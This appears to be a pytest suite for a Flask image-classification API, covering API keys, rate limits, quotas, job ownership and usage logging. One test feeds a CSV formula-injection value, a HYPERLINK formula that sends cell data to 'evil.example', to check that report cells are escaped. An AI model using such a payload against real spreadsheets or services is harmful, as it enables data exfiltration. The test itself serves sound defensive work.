"""API keys, rate limits, quotas, job ownership and the usage log, on the Flask app against moto."""
from __future__ import annotations

import csv

import pytest
from openapi_check import check_flask_response

from classifycloud import usage_report
from classifycloud.keyadmin import create_key, list_keys, revoke_key
from shared.aws import client
from shared.messages import now_ms
from webserver.app import create_app
from webserver.keys import RateLimiter, hash_key, key_id_of
from webserver.usage import UsageLog, UsageRecord, table_name

pytestmark = pytest.mark.services("imagenet")   # only these queues (tests/conftest.py provisioned)


@pytest.fixture
def keyed(settings, provisioned):
    """Settings with API keys on and no key cache (a revocation is seen at once)."""
    return settings.replace(api_keys="on", api_key_cache_s=0.0, usage_flush_interval_s=0.1)


@pytest.fixture
def app(keyed, catalogue):
    """The web app with keys on; closing it flushes the usage log."""
    app = create_app(keyed, catalogue)
    yield app
    app.extensions["classifycloud"].close()


class Client:
    """The Flask test client, every response checked against the OpenAPI description."""

    def __init__(self, app):
        self.c = app.test_client()

    def open(self, method: str, path: str, key: str | None = None, header: str = "bearer", **kw):
        headers = kw.pop("headers", {})
        if key is not None:
            headers.update({"Authorization": f"Bearer {key}"} if header == "bearer" else {"X-Api-Key": key})
        resp = self.c.open(path, method=method, headers=headers, **kw)
        check_flask_response(method, path.split("?")[0], resp)
        return resp


@pytest.fixture
def web(app):
    return Client(app)


def _job(web, key, header="bearer"):
    return web.open("POST", "/jobs", key, header=header, json={"url": "https://example.com/cat.jpg"})


def test_a_created_key_is_stored_only_as_its_hash_and_is_accepted_by_either_header(keyed, web):
    secret, rec = create_key(keyed, "alice", rate_limit=50, burst=50, monthly_quota=1000)
    item = client("dynamodb", keyed).get_item(TableName=f"{keyed.prefix}-api-keys",
                                                Key={"key_id": {"S": rec.key_id}})["Item"]
    assert secret not in str(item) and item["key_hash"]["S"] == hash_key(secret)
    assert key_id_of(secret) == rec.key_id and item["owner"]["S"] == "alice"
    assert _job(web, secret).status_code == 202
    assert _job(web, secret, header="x-api-key").status_code == 202
    (listed,) = [k for k in list_keys(keyed) if k.key_id == rec.key_id]
    assert listed.calls_this_month == 2 and listed.active


def test_missing_unknown_and_revoked_keys_are_answered_401_in_json(keyed, web):
    r = _job(web, None)
    assert r.status_code == 401 and r.json["error"]["code"] == "missing_api_key"
    assert r.headers["WWW-Authenticate"].startswith("Bearer")
    r = _job(web, "cc_k0123456789ab_" + "x" * 43)
    assert r.status_code == 401 and r.json["error"]["code"] == "invalid_api_key"
    secret, rec = create_key(keyed, "bob")
    assert _job(web, secret[:-1] + ("A" if secret[-1] != "A" else "B")).status_code == 401  # right id, wrong secret
    assert _job(web, secret).status_code == 202
    assert revoke_key(keyed, rec.key_id)
    r = _job(web, secret)
    assert r.status_code == 401 and r.json["error"]["code"] == "revoked_api_key"
    assert not revoke_key(keyed, "k000000000000")


def test_a_burst_over_the_rate_is_answered_429_with_retry_after(keyed, web):
    secret, _ = create_key(keyed, "carol", rate_limit=0.5, burst=3)
    codes = [_job(web, secret).status_code for _ in range(3)]
    assert codes == [202, 202, 202]
    r = _job(web, secret)
    assert r.status_code == 429 and r.json["error"]["code"] == "rate_limited"
    assert int(r.headers["Retry-After"]) >= 1


def test_past_the_monthly_quota_calls_are_answered_403(keyed, web):
    secret, _ = create_key(keyed, "dave", rate_limit=100, burst=100, monthly_quota=2)
    assert [_job(web, secret).status_code for _ in range(2)] == [202, 202]
    r = _job(web, secret)
    assert r.status_code == 403 and r.json["error"]["code"] == "quota_exceeded"


def test_quota_is_reserved_in_blocks_with_one_conditional_update_per_block_not_per_call(keyed, app, web):
    secret, rec = create_key(keyed, "frank", rate_limit=1000, burst=1000, monthly_quota=1000)
    db = app.extensions["classifycloud"].edge.keys._db
    updates = []
    db.meta.events.register("before-call.dynamodb.UpdateItem", lambda **_: updates.append(1), unique_id="count-upd")
    try:
        assert [_job(web, secret).status_code for _ in range(30)] == [202] * 30
    finally:
        db.meta.events.unregister("before-call.dynamodb.UpdateItem", unique_id="count-upd")
    assert len(updates) <= 8    # blocks of 1, 1, 2, 4, 8, 16 calls: the block follows the recent rate
    (listed,) = [k for k in list_keys(keyed) if k.key_id == rec.key_id]
    assert 30 <= listed.calls_this_month <= 30 + 16   # reserved: at most one block ahead of the calls made


def test_blocks_shrink_at_the_quota_so_a_key_is_never_granted_more_than_its_quota(keyed, web):
    secret, rec = create_key(keyed, "grace", rate_limit=1000, burst=1000, monthly_quota=25)
    codes = [_job(web, secret).status_code for _ in range(30)]
    assert codes == [202] * 25 + [403] * 5
    (listed,) = [k for k in list_keys(keyed) if k.key_id == rec.key_id]
    assert listed.calls_this_month == 25


def test_a_job_answers_only_to_the_key_that_submitted_it(keyed, web):
    mine, _ = create_key(keyed, "erin")
    theirs, _ = create_key(keyed, "frank")
    job = _job(web, mine).json
    assert web.open("GET", f"/jobs/{job['id']}", mine).status_code == 202
    r = web.open("GET", f"/jobs/{job['id']}", theirs)
    assert r.status_code == 404 and r.json["error"]["code"] == "unknown_job"
    assert web.open("GET", f"/jobs/{job['id']}").status_code == 401


def test_an_idempotency_key_is_per_api_key_so_one_tenant_never_replays_anothers_job(keyed, web):
    mine, _ = create_key(keyed, "gina")
    theirs, _ = create_key(keyed, "hal")
    body = {"url": "https://example.com/cat.jpg"}
    a = web.open("POST", "/jobs", mine, json=body, headers={"Idempotency-Key": "shared-name"})
    b = web.open("POST", "/jobs", theirs, json=body, headers={"Idempotency-Key": "shared-name"})
    assert a.status_code == b.status_code == 202 and a.json["id"] != b.json["id"]
    assert "Idempotent-Replayed" not in b.headers
    again = web.open("POST", "/jobs", mine, json=body, headers={"Idempotency-Key": "shared-name"})
    assert again.json["id"] == a.json["id"] and again.headers["Idempotent-Replayed"] == "true"
    assert web.open("GET", f"/jobs/{again.json['id']}", theirs).status_code == 404


def test_probes_catalogue_description_and_pages_need_no_key(web):
    assert web.open("GET", "/services").status_code == 200
    assert web.open("GET", "/openapi.json").status_code == 200
    assert web.open("GET", "/docs").status_code == 200
    assert web.open("GET", "/").status_code == 200
    assert web.open("GET", "/healthz").status_code in (200, 503)
    assert web.open("GET", "/classify?url=https://example.com/a.jpg").status_code == 401


def _scan_usage(settings) -> list[UsageRecord]:
    db = client("dynamodb", settings)
    items = [i for page in db.get_paginator("scan").paginate(TableName=table_name(settings)) for i in page["Items"]]
    return [UsageRecord.from_item(i) for i in items]


def test_every_call_leaves_one_usage_record_with_its_fields_and_the_report_totals_match(keyed, app, web, tmp_path):
    a, ka = create_key(keyed, "alice", rate_limit=100, burst=100)
    b, kb = create_key(keyed, "bob", rate_limit=100, burst=100)
    ids = [_job(web, a).json["id"] for _ in range(3)]
    _job(web, b)
    web.open("POST", "/jobs", b, json={"url": "ftp://example.com/x.jpg"})          # 400
    web.open("GET", "/classify?url=https://example.com/a.jpg")                     # 401, anonymous
    web.open("GET", "/healthz")                                                     # a probe: not logged
    app.extensions["classifycloud"].edge.usage.flush()
    records = _scan_usage(keyed)
    assert len(records) == 6
    by_id = {r.request_id: r for r in records}
    first = by_id[ids[0]]
    assert (first.key_id, first.route, first.method, first.service, first.status) == \
        (ka.key_id, "/jobs", "POST", "imagenet", 202)
    assert first.latency_ms > 0 and first.bytes_in > 0 and first.bytes_out > 0
    assert abs(first.at - now_ms()) < 60_000
    assert sorted(r.status for r in records if r.key_id == kb.key_id) == [202, 400]
    assert [r.status for r in records if r.key_id == "anonymous"] == [401]

    rows = usage_report.summarize(usage_report.fetch(keyed, now_ms() - 3_600_000))
    calls = {(r["key_id"], r["service"]): r["calls"] for r in rows}
    # the rejected call named no service and never reached one: "-"
    assert calls[(ka.key_id, "imagenet")] == 3 and calls[(kb.key_id, "imagenet")] == 1
    assert calls[(kb.key_id, "-")] == 1 and calls[("anonymous", "-")] == 1
    assert sum(calls.values()) == 6
    assert sum(r["errors_4xx"] for r in rows if r["key_id"] == kb.key_id) == 1
    only_a = usage_report.fetch(keyed, now_ms() - 3_600_000, key_id=ka.key_id)
    assert {r.request_id for r in only_a} == set(ids)
    out = tmp_path / "usage.csv"
    usage_report.write_csv(only_a, str(out))
    assert [row["request_id"] for row in csv.DictReader(out.open())] == sorted(ids, key=lambda i: by_id[i].at)


def test_a_service_the_client_names_is_bounded_in_its_usage_record_and_csv_cells_never_start_a_formula(
        keyed, app, web, tmp_path):
    a, ka = create_key(keyed, "mallory", rate_limit=100, burst=100)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")' + "A" * 8000
    r = web.open("POST", "/jobs", a, json={"url": "https://example.com/cat.jpg", "service": formula})
    assert r.status_code in (400, 404)
    web.open("POST", "/jobs", a, json={"url": "https://example.com/cat.jpg", "service": "imagenet"})
    app.extensions["classifycloud"].edge.usage.flush()
    services = sorted(r.service for r in _scan_usage(keyed) if r.key_id == ka.key_id)
    assert services == ["(invalid)", "imagenet"], services
    out = tmp_path / "usage.csv"
    usage_report.write_csv([UsageRecord("k1", "/jobs", "POST", "=1+1", 200, 1.0, 0, 0, "-2+3", now_ms()),
                            UsageRecord("k1", "/jobs", "POST", "@SUM(A1)", 200, 1.0, 0, 0, "r1", now_ms() + 1)],
                           str(out))
    rows = list(csv.DictReader(out.open()))
    assert [(x["service"], x["request_id"]) for x in rows] == [("'=1+1", "'-2+3"), ("'@SUM(A1)", "r1")]


def test_the_usage_writer_loses_no_record_on_close(keyed):
    log = UsageLog(keyed.replace(usage_flush_interval_s=30.0), client("dynamodb", keyed))
    log.start()
    for i in range(137):
        log.record(UsageRecord("kclose", "/classify", "GET", "imagenet", 200, 1.0, 0, 10, f"r{i:04d}",
                               now_ms() + i))
    log.close()
    assert log.written == 137 and log.dropped == 0 and log.pending == 0
    assert len([r for r in _scan_usage(keyed) if r.key_id == "kclose"]) == 137


def test_the_usage_cli_prints_totals_and_writes_csv(keyed, tmp_path, monkeypatch, capsys):
    log = UsageLog(keyed, client("dynamodb", keyed))
    for i, status in enumerate([200, 200, 422, 503]):
        log.record(UsageRecord("kcli", "/classify", "POST", "imagenet", status, 10.0 * (i + 1), 100, 50,
                               f"c{i}", now_ms()))
    log.close()
    monkeypatch.setenv("CLASSIFYCLOUD_PREFIX", keyed.prefix)
    assert usage_report.main(["--since", "1h", "--key", "kcli", "--csv", str(tmp_path / "u.csv")]) == 0
    out = capsys.readouterr().out
    row = next(line for line in out.splitlines() if line.startswith("kcli") and "imagenet" in line)
    assert row.split()[2:5] == ["4", "1", "1"]
    assert len(list(csv.DictReader((tmp_path / "u.csv").open()))) == 4
    assert usage_report.main(["--since", "yesterday"]) == 2


def test_the_token_bucket_refills_at_the_key_rate():
    now = [0.0]
    rl = RateLimiter(clock=lambda: now[0])
    assert [rl.acquire("k", rate=2.0, burst=2) for _ in range(2)] == [0.0, 0.0]
    assert rl.acquire("k", rate=2.0, burst=2) == pytest.approx(0.5)
    now[0] = 0.5
    assert rl.acquire("k", rate=2.0, burst=2) == 0.0


def test_one_refused_usage_record_never_takes_its_batch_with_it(keyed):
    log = UsageLog(keyed.replace(usage_flush_interval_s=30.0), client("dynamodb", keyed), max_attempts=2)
    at = now_ms()
    good = [UsageRecord("kbatch", "/classify", "GET", "imagenet", 200, 1.0, 0, 10, f"g{i:02d}", at + i)
            for i in range(23)]
    too_long = UsageRecord("kbatch", "/classify", "GET", "-", 401, 1.0, 0, 10, "x" * 2000, at)
    twin = UsageRecord("kbatch", "/classify", "GET", "-", 404, 1.0, 0, 10, "g00", at)  # g00's id, same ms
    huge = UsageRecord("kbatch", "/" + "r" * 410_000, "GET", "-", 404, 1.0, 0, 10, "h", at)  # > 400 KB item
    for rec in good[:10] + [too_long, huge] + good[10:] + [twin]:   # the first batch of 25 holds all three
        log.record(rec)
    log.close()
    stored = [r for r in _scan_usage(keyed) if r.key_id == "kbatch"]
    assert sorted(r.request_id for r in stored if r.status == 200) == sorted(r.request_id for r in good)
    assert [r.status for r in stored if r.request_id == "g00"].count(404) == 1
    assert len([r for r in stored if r.status == 401 and len(r.request_id) == 2000]) == 1
    assert (log.written, log.dropped) == (25, 1)


def test_a_client_request_id_is_logged_only_when_short_and_safe(keyed, app, web):
    web.open("GET", "/classify?url=https://example.com/a.jpg", headers={"X-Request-Id": "client-id_01"})
    web.open("GET", "/classify?url=https://example.com/a.jpg", headers={"X-Request-Id": "y" * 5000})
    web.open("GET", "/classify?url=https://example.com/a.jpg", headers={"X-Request-Id": "no spaces#or/slashes"})
    app.extensions["classifycloud"].edge.usage.flush()
    records = [r for r in _scan_usage(keyed) if r.status == 401]
    assert len(records) == 3 and "client-id_01" in {r.request_id for r in records}
    assert all(len(r.request_id) <= 64 and all(c.isalnum() or c in "-_" for c in r.request_id) for r in records)


def test_a_job_accepted_without_its_marker_still_answers_its_owner_once_done(keyed, app, web):
    import boto3

    from classifycloud.local import free_port
    from shared import naming
    from shared.messages import Reply
    mine, _ = create_key(keyed, "gina")
    theirs, _ = create_key(keyed, "hal")
    jobs = app.extensions["classifycloud"].jobs
    s3 = jobs._s3
    jobs._s3 = boto3.session.Session().client("s3", region_name="us-east-1",
                                              endpoint_url=f"http://127.0.0.1:{free_port()}")  # nothing listens
    try:
        r = _job(web, mine)
    finally:
        jobs._s3 = s3
    assert r.status_code == 202, r.json
    job_id = r.json["id"]
    assert jobs.marker(job_id) is None                       # the marker was never written
    reply = Reply.ok(job_id, "imagenet", [{"label": "tabby", "index": 281, "score": 0.9}], worker="w-1")
    s3.put_object(Bucket=keyed.bucket_name, Key=naming.result_key(job_id), Body=reply.to_json().encode())
    done = web.open("GET", f"/jobs/{job_id}", mine)
    assert done.status_code == 200 and done.json["results"][0]["label"] == "tabby"
    assert web.open("GET", f"/jobs/{job_id}", theirs).status_code == 404
    forged = job_id.rpartition("_")[0] + "_" + "0" * 16        # a made-up owner digest proves nothing
    assert web.open("GET", f"/jobs/{forged}", mine).status_code == 404


def test_a_flood_of_unknown_key_ids_never_evicts_a_key_in_use(keyed):
    import secrets

    from webserver.keys import KeyStore
    secret, rec = create_key(keyed, "ivy")
    store = KeyStore(keyed.replace(api_key_cache_s=3600.0), client("dynamodb", keyed), max_cached=20)
    assert store.verify(secret).key_id == rec.key_id
    # the key's record leaves DynamoDB: from now on only the cache can still answer for it
    client("dynamodb", keyed).delete_item(TableName=f"{keyed.prefix}-api-keys", Key={"key_id": {"S": rec.key_id}})
    for i in range(60):                      # 3x the cache of random, well-formed, unknown key ids
        assert store.verify(f"cc_k{secrets.token_hex(6)}_{secrets.token_urlsafe(32)}") is None
        if i % 5 == 0:
            assert store.verify(secret) is not None, i   # in use: kept
    assert len(store._cache) <= 20


def test_api_keys_auto_stays_on_whatever_endpoint_the_environment_names(moto_endpoint, monkeypatch):
    from shared.config import Settings
    monkeypatch.setenv("AWS_ENDPOINT_URL", moto_endpoint)        # once enough to turn authentication off
    assert Settings(api_keys="auto").api_keys_enabled is True
    assert Settings.from_env({}).api_keys_enabled is True
    assert Settings(api_keys="off").api_keys_enabled is False and Settings(api_keys="on").api_keys_enabled is True
